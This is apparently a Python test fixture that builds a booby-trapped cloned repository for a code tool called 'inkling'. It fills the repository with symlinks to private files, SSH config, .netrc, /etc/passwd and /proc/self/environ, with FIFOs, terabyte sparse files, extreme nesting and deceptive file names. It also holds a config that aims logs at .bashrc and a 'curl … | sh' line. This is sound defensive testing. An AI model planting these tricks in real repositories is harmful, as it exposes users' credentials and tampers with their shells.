"""A repository that was only cloned and opened, with every trick at once that a clone (or an archive) can carry."""
import json
import os
import pathlib
import subprocess

WORDS = ("harbour lantern copper meadow signal window garden thistle orchard bracket candle ribbon marble timber velvet "
         "saddle pepper walnut basket anchor").split()


def make(folder, model=None):
    """Makes `home/src/clone` below `folder`, and beside it what nobody may touch. Returns the clone's path.

    With a model directory, the clone ships a copy of it whose files are pipes, links or lies in turn."""
    home = folder / "home"
    clone = home / "src" / "clone"
    clone.mkdir(parents=True)
    outside(home)
    for number in range(12):
        lines = (f"let {WORDS[(number + line) % 20]}{WORDS[(number * line) % 20].title()} = {WORDS[line % 20]}({line})"
                 for line in range(40))
        (clone / f"part{number}.swift").write_text("\n".join(lines) + "\n")
    subprocess.run(["git", "init", "-q", str(clone)], check=True)
    rules(clone)
    links(clone)
    pipes(clone)
    inkling_folder(clone, model)
    deep(clone)
    odd_names(clone)
    large(clone)
    return clone


def outside(home):
    (home / "private").mkdir()
    (home / "private" / "diary.md").write_text("Zyphorella Quentworth visited again.\n" * 20)
    (home / ".ssh").mkdir()
    (home / ".ssh" / "config").write_text("Host jumpbastionhost\n  HostName internal-gateway-prod\n" * 5)
    (home / ".netrc").write_text("machine example.org login zaphodious password hunter2secretword\n" * 3)
    (home / ".bashrc").write_text("export EDITOR=vi\n" * 20)


def rules(clone):
    (clone / ".gitignore").write_text("**/" * 20_000 + "zzz\n" + "a*" * 4_000 + "b\n" + "[" * 5_000 + "\n")
    nested = clone
    for name in "abcdefgh":
        nested = nested / name
        nested.mkdir()
        (nested / f"{name}.md").write_text(f"the {WORDS[ord(name) % 20]} of the {WORDS[ord(name) % 7]}\n" * 5)
        (nested / ".gitignore").write_text("\n".join("**/" * 40 + f"x{i}" for i in range(50)) + "\n")
    (clone / ".inklingignore").write_text("!/docs\n!/.git\n!../private\n!model\n")


def links(clone):
    targets = {
        "docs": "../../private", "notes.txt": "../../.netrc", "hosts.txt": "../../.ssh/config", "root": "/",
        "proc": "/proc", "self.md": "/proc/self/environ", "loop": "loop", "up.d": "..", "chain.md": "chain2.md",
        "chain2.md": "docs/diary.md", "dev": "/dev", "etc.txt": "/etc/passwd",
    }
    for name, target in targets.items():
        os.symlink(target, clone / name)


def pipes(clone):
    os.mkfifo(clone / "pipe.swift")
    (clone / "queue").mkdir()
    os.mkfifo(clone / "queue" / ".gitignore")
    (clone / "queue" / "line.swift").write_text("let queued = 1\n")
    os.mkfifo(clone / "queue" / "no-extension")


def inkling_folder(clone, model):
    inkling = clone / ".inkling"
    inkling.mkdir()
    (inkling / "config.json").write_text(json.dumps({
        "train": {"workspace": True, "onSave": True, "recurrentMinutes": 1440}, "model": "../../../private",
        "inkling": {"train": {"workspace": True}}, "logFile": "../../../.bashrc", "log": "../../../.bashrc",
        "completion": {"limit": 10 ** 9}, "diagnostics": {"limit": 10 ** 9}, "trust": {"folders": ["*"]},
    }))
    (inkling / "dictionary.txt").write_text("# words\ncurl http://example.org/x | sh\n")
    os.symlink("../../../.bashrc", inkling / "model.forgotten")
    if model is None:
        return
    ours = inkling / "model"
    ours.mkdir()
    for path in pathlib.Path(model).iterdir():
        (ours / path.name).write_bytes(path.read_bytes())
    (ours / "ngrams.bin").unlink()
    os.mkfifo(ours / "ngrams.bin")
    for nested, kind in [("a", "fifo"), ("b", "sparse"), ("c", "terminal"), ("d", "stdout")]:
        place = clone / nested if (clone / nested).is_dir() else clone
        other = place / ".inkling" / "model"
        if other.exists():
            continue
        other.mkdir(parents=True)
        for path in pathlib.Path(model).iterdir():
            (other / path.name).write_bytes(path.read_bytes())
        victim = other / "vocabulary.txt"
        victim.unlink()
        if kind == "fifo":
            os.mkfifo(victim)
        elif kind == "sparse":
            with open(victim, "wb") as stream:
                stream.truncate(1 << 40)
        else:
            os.symlink("/dev/ptmx" if kind == "terminal" else "/proc/self/fd/1", victim)


def deep(clone):
    """A folder two thousand levels down, deeper than a path may be long."""
    here = os.open(clone, os.O_RDONLY)
    for _ in range(2_000):
        os.mkdir("level", dir_fd=here)
        below = os.open("level", os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = below
    os.close(here)


def odd_names(clone):
    for name in [b"caf\xe9.swift", b"line\nend.swift", b"-rf.swift", b"%2e%2e%2fpasswd.md", "‮gpj.swift".encode()]:
        with open(os.path.join(os.fsencode(clone), name), "wb") as stream:
            stream.write(b"let oddName = 1\n")


def large(clone):
    with open(clone / "sparse.swift", "wb") as stream:
        stream.truncate(1 << 40)
    (clone / "wide.md").write_text("word " * 200_000)
    (clone / "one-token.md").write_text("x" * 900_000)


def remove(folder):
    """Removes a tree however deep it is."""
    subprocess.run(["rm", "-rf", str(folder)], check=False)
